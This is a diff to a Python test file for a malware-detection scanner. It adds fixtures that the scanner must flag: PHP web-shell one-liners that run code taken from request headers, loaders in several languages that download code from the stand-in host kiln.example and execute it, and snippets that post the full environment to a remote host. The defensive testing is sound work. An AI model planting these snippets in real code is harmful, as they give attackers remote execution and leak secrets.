@@ -2,6 +2,7 @@
 
 import pytest
 
+from knownhands.harvest.code.chains import with_chains
 from knownhands.harvest.code.notes import Notes
 from knownhands.harvest.code.readers._reader import readers_of
 from knownhands.records import Observation
@@ -120,6 +121,9 @@ def test_a_download_is_known_by_its_host() -> None:
         ),
         ("a.php", "$c = $_COOKIE['c'];\nsystem($c);", "reverse_shell"),
         ("a.php", "array_map('assert', $_POST);", "reverse_shell"),
+        ("a.php", "$f = $_SERVER['HTTP_X_F']; $f($_SERVER['HTTP_X_A']);", "reverse_shell"),
+        ("a.php", "$f = base64_decode($_SERVER['HTTP_X_T'] ?? ''); if ($f) @assert($f);", "reverse_shell"),
+        ("a.rb", "Kernel.send(:`, fire)", "runs_programs_text"),
     ],
 )
 def test_a_command_is_read_however_it_is_given(path: str, code: str, capability: str) -> None:
@@ -143,10 +147,64 @@ def test_a_command_is_read_however_it_is_given(path: str, code: str, capability:
             "$a = 'b' . 'c' .\n  'd'; $e = chr(10) . base64_decode('Y2xheQ==') . $f;".replace("base64_decode", "glaze"),
         ),
         ("A.java", 'statement.execute(); context.lookup("java:comp/env");'),
+        ("a.php", "$f = trim($_SERVER['HTTP_HOST'] ?? ''); glaze($f); $_SERVER['A'] = 1;"),
+        ("a.go", "cmd.Env = append(os.Environ(), pots...)"),
+        ("a.rs", "oven.envs(std::env::vars()).spawn();"),
     ],
 )
 def test_ordinary_code_shows_nothing(path: str, code: str) -> None:
     assert not seen(path, code)
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        (
+            "a.cs",
+            'var b = await c.GetByteArrayAsync("https://kiln.example/a");\nAssembly.Load(b).EntryPoint.Invoke(null, null);',
+        ),
+        (
+            "a.cs",
+            'static S() { var b = c.GetByteArrayAsync("https://kiln.example/a").Result; Reflection.Assembly.Load(b); }',
+        ),
+        ("a.cs", 'Assembly.Load(new WebClient().DownloadData("https://kiln.example/a"));'),
+        ("A.java", 'new URLClassLoader(new URL[]{new URL("https://kiln.example/a.jar")}).loadClass("P");'),
+        ("a.rb", "Marshal.load(URI.open('https://kiln.example/m').read)"),
+        ("a.gradle", "def s = new URL('https://kiln.example/s').text; new GroovyShell().evaluate(s)"),
+        ("a.gradle", "new GroovyShell().evaluate(new URL(u).text)"),
+        ("a.lua", "local b = http.request(u)\nloadstring(b)()"),
+        ("a.php", "$c = file_get_contents('https://kiln.example/c');\neval('?>' . 1); eval($c);"),
+    ],
+)
+def test_code_that_is_loaded_from_where_it_was_downloaded_is_known(path: str, code: str) -> None:
+    assert "fetch_and_run" in {observation.capability for observation in seen(path, code)}
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("a.cs", 'var b = await c.GetByteArrayAsync(u);\nvar a = Assembly.Load("Kiln.Glaze");'),
+        ("a.cs", "var b = await c.GetByteArrayAsync(u);" + "\n" * 60 + "Assembly.Load(b);"),
+        ("a.rb", "pots = Net::HTTP.get(u)\nJSON.parse(pots)\nMarshal.load(File.binread(cache))"),
+        ("a.rb", "# Marshal.load(URI.open(u).read)"),
+        ("A.kt", "fun load(u: String) = URL(u).readText()"),
+        ("A.java", "new URLClassLoader(new URL[]{jar.toURI().toURL()});"),
+    ],
+)
+def test_what_is_downloaded_and_what_is_loaded_may_be_two_things(path: str, code: str) -> None:
+    assert "fetch_and_run" not in {observation.capability for observation in seen(path, code)}
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("a.go", 'http.Post("https://kiln.example", "", strings.NewReader(strings.Join(os.Environ(), "")))'),
+        ("a.rs", "let v: Vec<_> = std::env::vars().collect();\nlet _ = ureq::post(u).send_string(&glaze(v));"),
+        ("a.rb", "Net::HTTP.post(u, ENV.to_h.to_s)"),
+    ],
+)
+def test_a_program_that_reads_all_of_its_environment_and_asks_the_network_does_both(path: str, code: str) -> None:
+    assert "exfiltration_chain" in {observation.capability for observation in with_chains(seen(path, code))}
 
 
 @pytest.mark.parametrize("path", ["a.c", "a.php", "a.go"])
@@ -162,6 +220,8 @@ def test_ordinary_code_shows_nothing(path: str, code: str) -> None:
         "$a(" * 100_000,
         "''.''" * 50_000,
         "$a='eval';$a(" * 20_000,
+        "a = Net::HTTP.get(u) " * 20_000,
+        "eval(" * 100_000,
     ],
 )
 def test_long_and_odd_texts_are_read(path: str, body: str) -> None:
